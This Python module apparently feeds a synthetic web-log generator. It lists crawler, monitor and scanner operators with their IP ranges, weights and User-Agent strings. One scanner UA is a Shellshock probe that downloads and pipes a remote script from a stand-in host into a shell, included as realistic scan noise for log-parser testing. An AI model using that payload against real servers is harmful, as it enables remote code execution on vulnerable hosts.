"""Automated clients: crawlers, uptime monitors and scanners, each from its own networks.

Every operator sends its real User-Agent from address ranges it is known to crawl from
(Googlebot from 66.249.64.0/20, bingbot from 40.77.167.0/24, ...). Crawlers are the
busiest clients of most sites, which is why the reports have a `bot` segment; a handful
of Googlebot and bingbot addresses carry most of their operator's traffic.

Scanners are the internet's background noise: probes for `.env` and `wp-login.php`,
TLS handshakes on port 80, Shellshock in the User-Agent. Their UAs are tools (`curl`,
`python-requests`), fake browsers or missing (`-`).

`Operator.device` is the class the generator's tests count an operator's lines in:
`bot` for crawlers and named monitors/scanners, `other` for the load balancer's health
checks and anonymous scanners (a UA parser's verdict on those varies: the ETL, for one,
counts HTTP libraries such as curl as bots).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

from generator.useragents import CHROME_MAJORS, DeviceClass, chrome_full_version

Kind = Literal["crawler", "monitor", "scanner"]

_GOOGLE_SMARTPHONE = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/{v} Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)"
)
_GOOGLE_DESKTOP = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html) Chrome/{v} Safari/537.36"
)
_BING = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
    "+http://www.bing.com/bingbot.htm) Chrome/{v} Safari/537.36"
)
_BING_MOBILE = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/{v} Mobile Safari/537.36 (compatible; bingbot/2.0; "
    "+http://www.bing.com/bingbot.htm)"
)


@dataclass(frozen=True, kw_only=True)
class Operator:
    name: str
    kind: Kind
    device: DeviceClass
    share: float  # of its kind's requests
    networks: tuple[str, ...]  # CIDRs; successive addresses are drawn from them in turn
    addresses: int  # how many distinct addresses of this operator show up
    agents: tuple[tuple[str, float], ...]  # (raw UA as sent, weight); "-" = no header


def _evergreen(template: str, majors: int = 4) -> tuple[tuple[str, float], ...]:
    """Evergreen crawlers follow stable Chrome; logs show the last few versions."""
    return tuple(
        (template.format(v=chrome_full_version(v, i + 3)), 0.6**i)
        for i, v in enumerate(CHROME_MAJORS[:majors])
    )


OPERATORS: tuple[Operator, ...] = (
    # The /20 is listed three times: addresses alternate over the list, and three in four
    # Googlebot addresses are IPv4.
    Operator(
        name="Googlebot",
        kind="crawler",
        device="bot",
        share=0.34,
        networks=("66.249.64.0/20", "66.249.64.0/20", "66.249.64.0/20", "2001:4860:4801::/48"),
        addresses=48,
        agents=(
            *((ua, 0.6 * w) for ua, w in _evergreen(_GOOGLE_SMARTPHONE)),
            *((ua, 0.3 * w) for ua, w in _evergreen(_GOOGLE_DESKTOP)),
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.1),
            ("Googlebot-Image/1.0", 0.15),
        ),
    ),
    Operator(
        name="bingbot",
        kind="crawler",
        device="bot",
        share=0.17,
        networks=("40.77.167.0/24", "157.55.39.0/24", "207.46.13.0/24", "52.167.144.0/24"),
        addresses=32,
        agents=(
            *((ua, 0.75 * w) for ua, w in _evergreen(_BING)),
            *((ua, 0.25 * w) for ua, w in _evergreen(_BING_MOBILE)),
        ),
    ),
    Operator(
        name="AhrefsBot",
        kind="crawler",
        device="bot",
        share=0.1,
        networks=("54.36.148.0/24", "54.36.149.0/24", "51.222.253.0/24"),
        addresses=40,
        agents=(("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.0),),
    ),
    Operator(
        name="SemrushBot",
        kind="crawler",
        device="bot",
        share=0.07,
        networks=("185.191.171.0/24", "85.208.96.0/24"),
        addresses=30,
        agents=(
            ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 1.0),
        ),
    ),
    Operator(
        name="YandexBot",
        kind="crawler",
        device="bot",
        share=0.05,
        networks=("5.255.231.0/24", "213.180.203.0/24", "87.250.224.0/24"),
        addresses=16,
        agents=(
            ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.85),
            ("Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", 0.15),
        ),
    ),
    Operator(
        name="Applebot",
        kind="crawler",
        device="bot",
        share=0.04,
        networks=("17.241.219.0/24", "17.241.227.0/24", "17.22.237.0/24"),
        addresses=12,
        agents=(
            (
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, "
                "like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
                "+http://www.apple.com/go/applebot)",
                1.0,
            ),
        ),
    ),
    Operator(
        name="GPTBot",
        kind="crawler",
        device="bot",
        share=0.06,
        networks=("20.171.206.0/24", "52.230.152.0/24"),
        addresses=20,
        agents=(
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
                "+https://openai.com/gptbot)",
                1.0,
            ),
        ),
    ),
    Operator(
        name="ClaudeBot",
        kind="crawler",
        device="bot",
        share=0.03,
        networks=("216.73.216.0/22",),
        addresses=12,
        agents=(
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
                "+claudebot@anthropic.com)",
                1.0,
            ),
        ),
    ),
    Operator(
        name="Baiduspider",
        kind="crawler",
        device="bot",
        share=0.02,
        networks=("220.181.108.0/24", "116.179.32.0/24"),
        addresses=16,
        agents=(
            (
                "Mozilla/5.0 (compatible; Baiduspider/2.0; "
                "+http://www.baidu.com/search/spider.html)",
                1.0,
            ),
        ),
    ),
    Operator(
        name="PetalBot",
        kind="crawler",
        device="bot",
        share=0.02,
        networks=("114.119.128.0/19",),
        addresses=24,
        agents=(
            (
                "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Mobile Safari/537.36 (compatible; PetalBot;"
                "+https://webmaster.petalsearch.com/site/petalbot)",
                1.0,
            ),
        ),
    ),
    Operator(
        name="DuckDuckBot",
        kind="crawler",
        device="bot",
        share=0.01,
        networks=("20.191.45.212/32", "40.88.21.235/32", "40.76.173.151/32", "40.76.163.7/32"),
        addresses=4,
        agents=(("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 1.0),),
    ),
    Operator(
        name="facebookexternalhit",
        kind="crawler",
        device="bot",
        share=0.03,
        networks=("69.63.176.0/21", "173.252.64.0/19", "2a03:2880:f800::/48"),
        addresses=30,
        agents=(
            ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 1.0),
        ),
    ),
    Operator(
        name="Twitterbot",
        kind="crawler",
        device="bot",
        share=0.01,
        networks=("199.16.156.0/22",),
        addresses=6,
        agents=(("Twitterbot/1.0", 1.0),),
    ),
    Operator(
        name="Bytespider",
        kind="crawler",
        device="bot",
        share=0.04,
        networks=("47.128.0.0/16",),
        addresses=60,
        agents=(
            (
                "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
                1.0,
            ),
        ),
    ),
    # Monitors: steady, cheap requests every few seconds, all day.
    Operator(
        name="UptimeRobot",
        kind="monitor",
        device="bot",
        share=0.35,
        networks=("69.162.124.224/28", "216.144.250.0/24"),
        addresses=8,
        agents=(("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 1.0),),
    ),
    Operator(
        name="Pingdom",
        kind="monitor",
        device="bot",
        share=0.15,
        networks=("5.172.196.0/24", "185.180.12.0/24"),
        addresses=6,
        agents=(("Pingdom.com_bot_version_1.6_(http://www.pingdom.com/)", 1.0),),
    ),
    # The load balancer's health checks arrive from its private addresses.
    Operator(
        name="ELB",
        kind="monitor",
        device="other",
        share=0.5,
        networks=("10.0.1.0/24", "10.0.2.0/24"),
        addresses=4,
        agents=(("ELB-HealthChecker/2.0", 1.0),),
    ),
    # Scanners: many addresses, a few requests each.
    Operator(
        name="Censys",
        kind="scanner",
        device="bot",
        share=0.15,
        networks=("167.94.138.0/24", "167.94.145.0/24", "206.168.34.0/24"),
        addresses=120,
        agents=(("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 1.0),),
    ),
    Operator(
        name="Expanse",
        kind="scanner",
        device="bot",
        share=0.1,
        networks=("205.210.31.0/24", "198.235.24.0/24"),
        addresses=80,
        agents=(
            (
                "Expanse, a Palo Alto Networks company, searches across the global IPv4 space "
                "multiple times per day to identify customers&#39; presences on the Internet. If "
                "you would like to be excluded from our scans, please contact us at: "
                "scaninfo@paloaltonetworks.com",
                1.0,
            ),
        ),
    ),
    Operator(
        name="scanner",
        kind="scanner",
        device="other",
        share=0.75,
        networks=(
            "45.148.10.0/24",
            "185.224.128.0/24",
            "193.41.206.0/24",
            "167.99.0.0/16",
            "159.65.0.0/16",
            "134.209.0.0/16",
            "2a03:b0c0:3::/48",
            "92.118.39.0/24",
        ),
        addresses=1500,
        agents=(
            ("-", 0.2),  # no User-Agent header at all
            ("curl/8.5.0", 0.08),
            ("curl/7.88.1", 0.06),
            ("python-requests/2.32.3", 0.1),
            ("python-requests/2.31.0", 0.05),
            ("Go-http-client/1.1", 0.12),
            ("Mozilla/5.0 zgrab/0.x", 0.1),
            ("Wget/1.21.4", 0.02),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/81.0.4044.129 Safari/537.36",
                0.1,
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/74.0.3729.169 Safari/537.36",
                0.05,
            ),
            # Shellshock probes put shell code (with quotes) in the UA: nginx escapes it.
            ('() { :; }; /bin/bash -c "wget -qO- http://198.51.100.66/sh | sh"', 0.01),
            (
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                0.03,
            ),
            ("Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)", 0.03),
            ("Hello World", 0.02),
            ("xfa1,nvdorz,nvd0rz", 0.01),
            ("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0\t", 0.01),
        ),
    ),
)


def operators(kind: Kind) -> tuple[Operator, ...]:
    return tuple(op for op in OPERATORS if op.kind == kind)


def bot_agents() -> dict[str, DeviceClass]:
    """Every automated client's raw UA with the device class a UA parser should give it."""
    return {ua: op.device for op in OPERATORS for ua, _ in op.agents}
